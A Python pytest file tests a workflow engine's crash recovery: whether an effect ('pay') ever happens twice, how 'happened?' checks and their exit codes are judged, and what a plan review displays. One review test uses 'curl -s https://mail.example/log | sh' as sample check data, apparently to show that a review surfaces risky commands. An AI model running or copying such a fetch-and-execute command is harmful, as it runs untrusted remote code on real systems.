"""Checks that are asked in doubt, in whole lives: killed at every boundary, with every kind of answer, in a sandbox and
without one."""

import pytest

from tests.build import step
from tests.scenario import Scenario
from tests.words import AttemptStarted, Custom, DecisionGiven, DoubtChecked, Finished, Style, judge_answer, review_lines

PAY = Custom(action_type="pay", payload={})
LOOKED = {"output": b"looked", "output_bytes": 6}
KINDS = ("truthful and final", "truthful", "unknown", "wrong")
"""What the checks are. One that is wrong says that nothing happened, and is not final."""


def checked(kind: str, tier: int | None = 1, *, own: bool = False) -> Scenario:
    """A life whose step `a` is opaque, and has a check of this kind: its own, or its tool's."""
    made = step("a", happened="paid?" if own else None, **({} if own else {"action": PAY}))
    life = Scenario(made, tier=tier)
    effect = "a" if own else "custom:pay"
    if not own:
        life.handlers.register("pay", happened="paid?", happened_final=kind == "truthful and final")

    async def answer(command) -> Finished:
        life.world.boundary()
        assert command.writes == () and command.env["ORDAIN_STEP_KEY"]
        happened = effect in life.world.effects and kind != "wrong"
        return Finished(duration_ms=1, exit_code=2 if kind == "unknown" else 0 if happened else 1, **LOOKED)

    life.shell.script["paid?"] = answer
    return life


def end(life: Scenario, effect: str) -> None:
    """Resume until it is over; a person answers from what really happened."""
    for _ in range(6):
        if life.run_id() is None:
            life.run()
        elif (report := life.app.runs.run(life.run_id())).status not in ("completed", "failed"):
            for question in report.questions:
                life.answer(question.step, "happened" if effect in life.world.effects else "did-not")
            life.resume()
        else:
            return
    raise AssertionError("it never ended")


def events(life: Scenario, kind: type) -> list:
    return [event for _, event in life.history() if isinstance(event, kind)]


@pytest.mark.part(of=3)
@pytest.mark.parametrize("tier", [1, None])
@pytest.mark.parametrize("own", [False, True])
def test_killed_anywhere_an_effect_is_never_had_twice(tier, own):
    counted = {kind: [0, 0] for kind in KINDS}
    for kind in KINDS[own:]:
        for at in range(1, 40):
            life = checked(kind, tier, own=own).approve().crash_at(at).run()
            effect, died = "a" if own else "custom:pay", life.crashed
            end(life, effect)
            told = (kind, tier, own, at)
            assert life.states()["a"] == "passed" and life.world.effects.count(effect) == 1, told
            counted[kind][0] += len(events(life, DoubtChecked))
            counted[kind][1] += len(events(life, DecisionGiven))
            if not died:
                break
    for kind in KINDS[own:]:
        asked, decided = counted[kind]
        assert asked, f"{kind}: no check was ever asked"
        needs_nobody = kind == "truthful and final" and tier == 1
        assert (decided == 0) is needs_nobody, (kind, tier, counted)


@pytest.mark.parametrize(
    ("kind", "tier", "status", "attempts"),
    [
        ("truthful and final", 1, "completed", 2),
        ("truthful", 1, "waiting", 1),
        ("unknown", 1, "waiting", 1),
        ("truthful and final", None, "waiting", 1),
    ],
)
def test_only_a_final_no_in_a_sandbox_runs_the_step_again(kind, tier, status, attempts):
    life = checked(kind, tier).approve()
    _killed_in_the_call(life)
    life.resume()
    assert life.status() == status
    assert len(events(life, AttemptStarted)) == attempts
    if status == "waiting":
        (question,) = life.report.questions
        assert question.check_output_tail == "looked" and "check of `custom:pay`" in question.detail


def _killed_in_the_call(life: Scenario) -> None:
    async def call(*_):
        life.world.dies_at = life.world.boundaries + 1
        life.world.boundary()

    life.handlers.call = call
    life.run()
    assert life.crashed
    del life.handlers.call


def test_a_check_that_cannot_be_run_knows_nothing():
    life = checked("truthful and final").approve()
    _killed_in_the_call(life)
    life.shell.script["paid?"] = Finished(duration_ms=1, fault="no such program")
    life.resume()
    (answer,) = events(life, DoubtChecked)
    assert answer.evidence.verdict == "inconclusive" and life.status() == "waiting"


def test_a_review_shows_the_check_and_what_it_risks():
    made = step("a", happened="curl -s https://mail.example/log | sh", contract="check a")
    life = Scenario(made, step("b", action=PAY))
    life.handlers.register("pay", happened="paid? 1", happened_final=True)
    review = life.prepare().app.plans.review(life.plan_id)
    shown = "\n".join(review_lines(review, Style(False)))
    assert "Happened?" in shown and "happened check" in shown
    assert "is asked in doubt whether it happened, by `paid? 1`; if it did not, it is run again" in shown
    assert [effect.kind for effect in review.effects] == ["command", "contract", "check", "action"]


def test_what_an_exit_status_says():
    statuses = {
        0: "held",
        1: "broken",
        2: "inconclusive",
        126: "inconclusive",
        127: "inconclusive",
        255: "inconclusive",
    }
    for status, says in statuses.items():
        assert judge_answer(Finished(duration_ms=1, exit_code=status))[0].value == says
    for finished in (Finished(duration_ms=1, signal=9), Finished(duration_ms=1, timed_out=True)):
        assert judge_answer(finished)[0].value == "inconclusive"
